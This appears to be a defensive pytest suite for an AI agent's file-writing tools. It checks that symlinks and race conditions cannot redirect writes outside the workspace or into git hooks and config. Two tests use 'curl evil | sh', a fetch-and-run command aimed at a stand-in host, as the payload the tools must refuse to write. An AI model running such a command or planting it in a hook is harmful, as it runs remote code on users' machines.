"""Write/Edit/MultiEdit cannot be raced into following a symlink out of the workspace."""

from __future__ import annotations

import contextlib
import os
import shutil
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tether.tools import openat2
from tether.tools.confined import PathChanged, open_directory
from tether.tools.edit import EditTool, MultiEditTool
from tether.tools.files import WriteTool

from .support import run_tool

ORIGINAL = "outside: original\n"


@pytest.fixture(autouse=True, params=["openat2", "walk"])
def directory_opener(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """Every test runs twice: with the kernel's openat2 and with the O_NOFOLLOW walk."""
    if request.param == "walk":
        monkeypatch.setitem(openat2._state, "call", None)
    elif openat2._bind() is None:
        pytest.fail(
            "openat2 (Linux 5.6+, x86_64/arm64) is missing here, so only the walk "
            "fallback could be tested"
        )
    return str(request.param)


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(ORIGINAL)
    (folder / "f").write_text(ORIGINAL)
    return folder


@pytest.fixture
def work(tmp_path: Path) -> Path:
    folder = tmp_path / "work"
    folder.mkdir()
    return folder


@contextlib.contextmanager
def _flipper(place: Path, make_real: Callable[[Path], object], link_to: Path) -> Iterator[None]:
    """While the with-block runs, `place` keeps turning from a real entry into a symlink to
    `link_to` and back, each swap one atomic rename."""
    stop = threading.Event()
    flips = [0]

    def flip() -> None:
        staging = place.with_name(f".{place.name}.staging")
        while not stop.is_set():
            for real in (True, False):
                if staging.is_symlink() or staging.is_file():
                    staging.unlink()
                elif staging.is_dir():
                    os.rmdir(staging)
                if real:
                    make_real(staging)
                else:
                    staging.symlink_to(link_to)
                try:
                    os.replace(staging, place)
                except OSError:  # a directory in the way of a rename: take it out first
                    shutil.rmtree(place, ignore_errors=True)
                    if place.is_symlink():
                        place.unlink()
                flips[0] += 1

    thread = threading.Thread(target=flip, daemon=True)
    thread.start()
    try:
        yield
    finally:
        stop.set()
        thread.join(5)
    assert flips[0] > 50, "the flipper hardly ran: the race was not exercised"


def _race(
    work: Path,
    target: Path,
    link_to: Path,
    calls: Callable[[int], tuple[object, dict]],
    make_real: Callable[[Path], object],
    rounds: int = 300,
) -> int:
    ok = 0
    with _flipper(target, make_real, link_to):
        for n in range(rounds):
            tool, args = calls(n)
            result = run_tool(tool, args, work)  # type: ignore[arg-type]
            ok += not result.is_error
    if ok == 0:  # a loaded machine may lose every round to the flipper: show the call works
        if target.is_symlink():
            target.unlink()
        if not target.exists():
            make_real(target)
        tool, args = calls(rounds)
        ok += not run_tool(tool, args, work).is_error  # type: ignore[arg-type]
    return ok


def test_write_raced_on_the_file_never_changes_the_outside_file(work: Path, outside: Path) -> None:
    secret = outside / "secret.txt"
    ok = _race(
        work,
        work / "f",
        secret,
        lambda n: (WriteTool(), {"file_path": "f", "content": f"new {n}\n"}),
        lambda p: p.write_text("inside\n"),
    )
    assert secret.read_text() == ORIGINAL
    assert ok > 0  # the loop really wrote, whenever the name was a file


def test_edit_and_multiedit_raced_never_change_the_outside_file(work: Path, outside: Path) -> None:
    secret = outside / "secret.txt"
    (secret).write_text("outside: original\n")

    def call(n: int) -> tuple[object, dict]:
        if n % 2:
            return EditTool(), {"file_path": "f", "old_string": "original", "new_string": "EDIT"}
        return MultiEditTool(), {
            "file_path": "f",
            "edits": [{"old_string": "original", "new_string": "MULTI"}],
        }

    _race(work, work / "f", secret, call, lambda p: p.write_text("inside: original\n"))
    assert secret.read_text() == ORIGINAL


def test_write_raced_on_a_parent_directory_never_lands_outside(work: Path, outside: Path) -> None:
    def make_dir(p: Path) -> None:
        p.mkdir()

    ok = _race(
        work,
        work / "d",
        outside,
        lambda n: (WriteTool(), {"file_path": "d/f", "content": f"new {n}\n"}),
        make_dir,
    )
    assert (outside / "f").read_text() == ORIGINAL
    assert sorted(p.name for p in outside.iterdir()) == ["f", "secret.txt"]  # no temp left
    assert ok > 0


def test_write_through_an_in_workspace_symlink_changes_its_target(work: Path) -> None:
    (work / "AGENTS.md").write_text("old\n")
    (work / "CLAUDE.md").symlink_to("AGENTS.md")
    result = run_tool(WriteTool(), {"file_path": "CLAUDE.md", "content": "new\n"}, work)
    assert not result.is_error, result.output
    assert (work / "CLAUDE.md").is_symlink() and (work / "AGENTS.md").read_text() == "new\n"


@pytest.mark.parametrize("name", ["dangling", "existing", "parent"])
def test_a_symlink_out_of_the_workspace_is_not_written_through(
    work: Path, outside: Path, name: str
) -> None:
    if name == "dangling":
        (work / "link").symlink_to(outside / "new.txt")
        spelled = "link"
    elif name == "existing":
        (work / "link").symlink_to(outside / "secret.txt")
        spelled = "link"
    else:
        (work / "d").symlink_to(outside)
        spelled = "d/secret.txt"
    for tool, args in (
        (WriteTool(), {"file_path": spelled, "content": "pwned\n"}),
        (EditTool(), {"file_path": spelled, "old_string": "original", "new_string": "pwned"}),
        (EditTool(), {"file_path": spelled, "old_string": "", "new_string": "pwned"}),
    ):
        result = run_tool(tool, args, work)
        assert result.is_error and "leads out of the workspace" in result.output, result.output
    assert (outside / "secret.txt").read_text() == ORIGINAL
    assert not (outside / "new.txt").exists()


def test_write_keeps_mode_and_creates_parents(work: Path) -> None:
    (work / "x.sh").write_text("a\n")
    os.chmod(work / "x.sh", 0o751)
    assert not run_tool(WriteTool(), {"file_path": "x.sh", "content": "b\n"}, work).is_error
    assert (work / "x.sh").stat().st_mode & 0o777 == 0o751
    result = run_tool(WriteTool(), {"file_path": "a/b/c.txt", "content": "deep\n"}, work)
    assert not result.is_error and (work / "a/b/c.txt").read_text() == "deep\n"
    assert sorted(p.name for p in work.iterdir()) == ["a", "x.sh"]  # no temp files left


@pytest.mark.parametrize(
    "inside",
    [
        ".git/hooks/pre-commit",
        ".git/config",
        ".tether/settings.json",
        "sub/.git/hooks/post-checkout",
    ],
)
def test_a_symlink_into_git_or_tether_metadata_is_not_written_through(
    work: Path, inside: str
) -> None:
    target = work / inside
    target.parent.mkdir(parents=True)
    target.write_text("original\n")
    (work / "notes.md").symlink_to(target)
    for tool, args in (
        (WriteTool(), {"file_path": "notes.md", "content": "curl evil | sh\n"}),
        (
            EditTool(),
            {"file_path": "notes.md", "old_string": "original", "new_string": "curl evil | sh"},
        ),
    ):
        result = run_tool(tool, args, work)
        assert result.is_error and "through a symlink" in result.output, result.output
    assert target.read_text() == "original\n"


def test_write_raced_into_git_hooks_never_arms_a_hook(work: Path) -> None:
    hook = work / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("original\n")
    _race(
        work,
        work / "f",
        hook,
        lambda n: (WriteTool(), {"file_path": "f", "content": f"curl evil | sh {n}\n"}),
        lambda p: p.write_text("inside\n"),
    )
    assert hook.read_text() == "original\n"


def test_a_workspace_inside_a_tether_folder_still_writes_through_its_links(tmp_path: Path) -> None:
    work = tmp_path / ".tether" / "agents" / "a" / "memory-worktrees" / "r1"
    work.mkdir(parents=True)
    (work / "real.md").write_text("old\n")
    (work / "alias.md").symlink_to("real.md")
    result = run_tool(WriteTool(), {"file_path": "alias.md", "content": "new\n"}, work)
    assert not result.is_error, result.output
    assert (work / "real.md").read_text() == "new\n"


def test_open_directory_refuses_symlinks_and_creates_missing_parts(
    tmp_path: Path, outside: Path
) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "link").symlink_to(outside)
    (tmp_path / "file").write_text("x")
    for spelled in ("link", "link/deeper", "real/../link"):
        with pytest.raises(PathChanged):
            os.close(open_directory(os.path.normpath(str(tmp_path / spelled)), create=True))
    assert sorted(p.name for p in outside.iterdir()) == ["f", "secret.txt"]
    with pytest.raises(NotADirectoryError):
        open_directory(str(tmp_path / "file" / "x"), create=True)
    with pytest.raises(FileNotFoundError):
        open_directory(str(tmp_path / "missing"), create=False)
    fd = open_directory(str(tmp_path / "real" / "a" / "b"), create=True)
    try:
        assert os.readlink(f"/proc/self/fd/{fd}") == str(tmp_path / "real" / "a" / "b")
    finally:
        os.close(fd)
